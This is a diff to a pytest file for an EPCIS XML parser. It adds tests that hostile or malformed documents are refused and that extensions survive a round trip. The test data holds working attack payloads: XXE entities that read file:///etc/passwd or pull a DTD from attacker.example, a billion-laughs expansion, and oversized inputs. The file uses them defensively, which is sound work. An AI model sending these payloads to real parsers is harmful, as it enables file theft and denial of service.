@@ -2,7 +2,14 @@
 
 import pytest
 
-from guomen.core.epcis import EpcisError, ObjectEvent, event_to_dict, parse_xml_document, xml_to_document
+from guomen.core.epcis import (
+    EpcisError,
+    ObjectEvent,
+    document_to_xml,
+    event_to_dict,
+    parse_xml_document,
+    xml_to_document,
+)
 
 EVENT = """<ObjectEvent>
   <eventTime>2026-03-01T12:00:00.000+08:00</eventTime>
@@ -55,13 +62,25 @@ OUTSIDE = '<!DOCTYPE x SYSTEM "http://attacker.example/x.dtd">'
 FILE = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
 
 
+LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
+
+
 @pytest.mark.parametrize(
     "data",
     [
         document(EVENT, BOMB),
+        document(EVENT.replace(">one<", ">&l9;<"), f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]>'),
+        document(EVENT, '<!DOCTYPE x [<!ENTITY % p SYSTEM "http://attacker.example/p">%p;]>'),
         document(EVENT, OUTSIDE),
         document(EVENT.replace(">one<", ">&f;<"), FILE),
         document("<ex:a>" * 10_000 + "</ex:a>" * 10_000),
+        document('<ex:a xmlns:ex="https://ns.example.com/">' + "<ex:b/>" * 260_000 + "</ex:a>"),
+        document("".join(f'<ex:a xmlns:n{n}="urn:n:{n}"/>' for n in range(100_000))),
+        b" " * (100 * 1024 * 1024),
+        b"<a" + b" " * (100 * 1024 * 1024) + b"/>",
+        document(EVENT, "<!DOCTYPE x [" + '<!ENTITY a "ha">' * 100_000 + "]>"),
+        document(EVENT.replace(">one<", ">&undeclared;<")),
+        b'<?xml version="1.0" encoding="no-such"?><a/>',
         b"<a><b></a>",
         b"",
         b"<html/>",
@@ -71,3 +90,27 @@ FILE = '<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
 def test_it_refuses_xml_made_to_hurt_and_what_is_no_document(data: bytes) -> None:
     with pytest.raises(EpcisError):
         xml_to_document(data)
+
+
+@pytest.mark.parametrize("letters", [1, 8 * 1024 * 1024])
+def test_a_long_text_is_read_in_time_that_grows_with_its_length_only(letters: int) -> None:
+    (event,) = xml_to_document(document(EVENT.replace(">one<", f">{'a&#10;' * (letters // 6)}b<")))["epcisBody"][
+        "eventList"
+    ]
+    assert len(event["ex:note"][0]) == letters // 6 * 2 + 1
+
+
+def test_extensions_and_own_vocabularies_survive_the_way_through_xml() -> None:
+    own = """<ObjectEvent><eventTime>2026-03-01T12:00:00Z</eventTime><eventTimeZoneOffset>+00:00</eventTimeZoneOffset>
+      <epcList><epc>urn:epc:id:sgtin:4012345.011111.1</epc></epcList><action>OBSERVE</action>
+      <bizStep>https://own.example/step</bizStep><disposition>ex:odd</disposition>
+      <bizTransactionList><bizTransaction type="ex:deal" ex:signed="yes">urn:x:1</bizTransaction></bizTransactionList>
+      <ex:a ex:b="1" c="2">three<ex:d xml:space="preserve"> four </ex:d></ex:a><ex:a/></ObjectEvent>"""
+    read = xml_to_document(document(own))
+    (event,) = read["epcisBody"]["eventList"]
+    assert event["bizStep"] == "https://own.example/step"
+    assert event["disposition"] == "ex:odd"
+    assert event["bizTransactionList"] == [{"type": "ex:deal", "bizTransaction": "urn:x:1", "ex:signed": "yes"}]
+    assert event["ex:a"] == [{"#text": "three", "ex:b": "1", "c": "2", "ex:d": " four "}, ""]
+    again = xml_to_document(document_to_xml(read))
+    assert (again["epcisBody"], again["@context"]) == (read["epcisBody"], read["@context"])
